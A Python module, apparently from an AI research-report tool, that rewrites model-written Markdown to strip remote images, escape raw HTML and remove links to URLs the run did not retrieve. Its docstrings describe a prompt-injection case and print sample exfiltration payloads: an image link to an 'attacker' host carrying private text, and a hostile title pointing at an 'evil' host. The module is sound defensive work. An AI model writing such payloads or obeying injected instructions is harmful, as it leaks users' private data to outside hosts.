"""Model-written report text made safe and traceable: no remote images, no raw HTML, no link this run did not read.

A report's answer is written by a model that read third-party text (web pages, snippets, shared documents), so an
injected instruction can make it write ``![x](https://attacker/?d=<private text>)``: any Markdown viewer that loads
remote images (a Git forge, an editor preview, a wiki) sends the data when the file is opened, and a link sends it
on one click (issue #21). And a model writes URLs from memory (issue #20): a link the run never retrieved looks like
a source but was never checked. One rule answers both, ``safe_answer`` rewriting the Markdown of an answer outside
code spans and fenced code blocks:

- an image becomes its alt text (a remote one also gets the link rule below, so at most a plain link remains);
- raw HTML is escaped (``\\<img …>`` shows as text; a viewer never builds a tag from model text);
- a link (inline, autolink, bare URL, reference definition) stays a link only when it points into the report itself
  (no scheme, no host) or to a URL this run retrieved or read (``known_urls``: the report's sources and the web pages
  its read actions opened; compared without fragment, default port, trailing slash, case of the host, http and
  https alike). A web search result the run only listed (never read, not cited) is not among them: its page was
  never checked.
  Any other link is **removed**: its text stays, followed by "(link to `host` removed: not retrieved by this run)".
  Removed rather than kept with a mark, because a kept link is still one click from sending what its URL carries
  and still reads as a source; the host (never the path or query) says where it pointed. With ``links: all`` an
  http(s) link to any URL stays a link, followed by "(not retrieved by this run)" when the run did not read it
  (images and raw HTML are still removed).

``check_links`` applies the link rule alone and lists the URLs it removed or marked: ``DeepSearcher.query`` applies
it to every agent's answer, so the ``Report`` carries the marks and those URLs (``Report.unretrieved_urls``, in
``--json``; the saved report's notes count them); they never join the Sources. The rewrite is textual (regular
expressions over CommonMark's inline forms) and idempotent, applied again where the report Markdown is produced
(``report_markdown.report_markdown``; the server's ``answer_html`` renders the same rewritten text).
"""

from __future__ import annotations

import re
from typing import Callable, Iterable, Literal
from urllib.parse import urlsplit

LinkRule = Literal["cited", "all"]

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")
_TEXT = r"(?P<{}>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)"
_DEST = r"\s*(?P<{}><[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*"
_INLINE = re.compile(
    r"(?P<image>!\[" + _TEXT.format("ialt") + r"\]\(" + _DEST.format("iurl") + r"\))"
    r"|(?P<refimage>!\[" + _TEXT.format("ralt") + r"\](?:\[[^\[\]]*\])?)"
    r"|(?P<link>\[" + _TEXT.format("ltext") + r"\]\(" + _DEST.format("lurl") + r"\))"
    r"|(?P<definition>^ {0,3}\[[^\[\]\n]+\]:[ \t]*<?[^\s>]+>?[^\n]*$)"
    r"|(?P<autolink><[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*>)"
    r"|(?P<html><(?=[A-Za-z/!?]))"
    r"|(?P<bare>(?<![\w/])(?:https?://|www\.)[^\s<>`]+)",
    re.MULTILINE | re.IGNORECASE)


NOT_RETRIEVED = "not retrieved by this run"
_MARK = f" ({NOT_RETRIEVED})"
#: the marks the link rule adds to a model's text ("(link to `host` removed: not retrieved by this run)")
LINK_MARKS = re.compile(rf" ?\((?:link to `[^`\n]*` removed: )?{NOT_RETRIEVED}\)")


def normal_url(url: str) -> str:
    """``url`` as the rule compares it: http and https alike (``//host/path``), host lower case, no fragment, no
    default port, no trailing slash ("" for a string that is not an http(s) URL)."""
    try:
        parts = urlsplit(url.strip() if not url.lower().startswith("www.") else "https://" + url.strip())
        port = parts.port
    except ValueError:
        return ""
    scheme = parts.scheme.lower()
    if scheme not in ("http", "https") or not parts.hostname:
        return ""
    host = parts.hostname.lower()
    host = f"[{host}]" if ":" in host else host
    netloc = host if port in (None, 80 if scheme == "http" else 443) else f"{host}:{port}"
    path = parts.path.rstrip("/")
    return f"//{netloc}{path}" + (f"?{parts.query}" if parts.query else "")


def known_urls(urls: Iterable[str]) -> set[str]:
    """The URLs a link may point to (``normal_url`` of each): what the run retrieved or read (its sources' URLs,
    the pages its read actions opened)."""
    return {n for url in urls for n in [normal_url(url)] if n}


def safe_answer(text: str, known: set[str], links: LinkRule = "cited") -> str:
    """``text`` (model-written Markdown) with remote images dropped, raw HTML escaped and links to URLs outside
    ``known`` removed or marked (module docstring); code spans and fenced code blocks are left as they are."""
    return _outside_code(text, lambda m: _rewrite(m, known, links, [], links_only=False))


def check_links(text: str, known: set[str], links: LinkRule = "cited") -> tuple[str, list[str]]:
    """The link rule alone (images and HTML left as they are): ``text`` with every link to a URL outside ``known``
    removed (or marked, with ``links: all``), and those URLs in order of appearance."""
    found: list[str] = []
    return _outside_code(text, lambda m: _rewrite(m, known, links, found, links_only=True)), found


Rewrite = Callable[[re.Match[str]], str]


def _outside_code(text: str, rewrite: Rewrite) -> str:
    """``rewrite`` applied to every inline form of ``text`` outside fenced code blocks and code spans."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opened = _FENCE.match(line)
        if fence is None and opened:
            out.append(_prose("".join(prose), rewrite))
            prose, fence = [], opened.group(1)[0] * len(opened.group(1))
            out.append(line)
        elif fence is not None:
            out.append(line)
            if line.strip().startswith(fence) and not line.strip().strip(fence[0]):
                fence = None
        else:
            prose.append(line)
    out.append(_prose("".join(prose), rewrite))
    return "".join(out)


def _prose(text: str, rewrite: Rewrite) -> str:
    """Rewrite the text between code spans."""
    parts, pos = [], 0
    for span in _CODE_SPAN.finditer(text):
        parts += [_INLINE.sub(rewrite, text[pos:span.start()]), span.group(0)]
        pos = span.end()
    parts.append(_INLINE.sub(rewrite, text[pos:]))
    return "".join(parts)


def _rewrite(m: re.Match[str], known: set[str], links: LinkRule, found: list[str], *, links_only: bool) -> str:
    kind = m.lastgroup
    marked = m.string.startswith(_MARK, m.end())  # an earlier pass already marked it (``links: all``)
    rule = _Rule(known, links, found, marked)
    if kind == "html":
        return m.group(0) if links_only else "\\<"
    if kind == "image":
        url, alt = _unbracket(m.group("iurl")), m.group("ialt") or "image"
        return rule.link(m.group(0), url, text=alt) if links_only else rule.link(m.group(0), url, text=alt, image=True)
    if kind == "refimage":
        return m.group(0) if links_only else m.group("ralt") or "image"
    if kind == "link":
        return rule.link(m.group(0), _unbracket(m.group("lurl")), text=m.group("ltext"))
    if kind == "definition":
        url = m.group(0).split("]:", 1)[1].strip().split()[0].strip("<>")
        if rule.allowed(url):
            return rule.mark(m.group(0), url)
        return "\\" + m.group(0).lstrip(" ").split(url)[0] + _removed(url)
    if kind == "autolink":
        url = m.group(0).strip("<>")
        return rule.mark(m.group(0), url) if rule.allowed(url) else _removed(url)
    url, trail = _trailing(m.group(0))  # a bare URL: the sentence's punctuation after it is not part of it
    return (rule.mark(url, url) if rule.allowed(url) else _removed(url)) + trail


def _trailing(url: str) -> tuple[str, str]:
    """A bare URL and the punctuation after it (``.``, ``,``, ``)`` without its ``(``…)."""
    cut = len(url.rstrip(".,;:!?'\""))
    head, trail = url[:cut], url[cut:]
    while head.endswith(")") and head.count(")") > head.count("("):
        head, trail = head[:-1], ")" + trail
    return head, trail


class _Rule:
    """The link rule for one match: which URLs stay links, which are marked, and the list of unretrieved ones."""

    def __init__(self, known: set[str], links: LinkRule, found: list[str], marked: bool):
        self.known, self.links, self.found, self.marked = known, links, found, marked

    def allowed(self, url: str) -> bool:
        """A link into the report itself, a URL the run read, or (``links: all``) any http(s) URL; an unretrieved
        http(s) URL is recorded in ``found``."""
        if not _is_remote(url):
            return True
        normal = normal_url(url)
        if normal and normal in self.known:
            return True
        if not self.marked:
            self.found.append(url)
        return self.links == "all" and bool(normal)

    def mark(self, whole: str, url: str) -> str:
        """A kept link, followed by the mark when the run did not read it (once: never marked twice)."""
        normal = normal_url(url)
        unread = _is_remote(url) and not (normal and normal in self.known)
        return whole + _MARK if unread and not self.marked else whole

    def link(self, whole: str, url: str, *, text: str, image: bool = False) -> str:
        """A kept link (a remote image becomes a plain link to it, a local one its alt text), or its text with the
        removal note."""
        if not self.allowed(url):
            return f"{text} {_removed(url)}" if text else _removed(url)
        if image:
            return self.mark(f"[{text}](<{url}>)", url) if _is_remote(url) else text
        return self.mark(whole, url)


def _unbracket(dest: str) -> str:
    return dest[1:-1] if dest.startswith("<") and dest.endswith(">") else dest


def _is_remote(url: str) -> bool:
    return bool(re.match(r"[A-Za-z][A-Za-z0-9+.-]*:|//", url)) or url.lower().startswith("www.")


def _removed(url: str) -> str:
    """The note that replaces a removed link: its host as code (never a link itself), never its path or query."""
    try:
        host = urlsplit(url if "//" in url else "//" + url).hostname or url.split(":", 1)[0]
    except ValueError:
        host = "?"
    host = re.sub(r"[^A-Za-z0-9.\-:\[\]]", "", host)[:80] or "?"
    return f"(link to `{host}` removed: {NOT_RETRIEVED})"


_INLINE_SYNTAX = re.compile(r"([\\`\[\]<>!])")
_PLAIN_URL = re.compile(r"https?://[^\s<>\[\]`\\]+")


def md_inline(text: str) -> str:
    """Outside text (a document's or page's title, a file name) as one line of literal Markdown text: whitespace
    and line breaks collapsed (no new block, no heading) and the characters that build links, images, HTML or code
    backslash-escaped (emphasis is left alone: it carries nothing out), so a title such as
    ``x](https://evil/?d=1) ![`` stays text in report.md."""
    return _INLINE_SYNTAX.sub(r"\\\1", " ".join(text.split()))


def md_source(source: str) -> str:
    """A source for a report's Sources list: an http(s) URL as it is (its own link), anything else ``md_inline``."""
    return source if _PLAIN_URL.fullmatch(source) else md_inline(source)

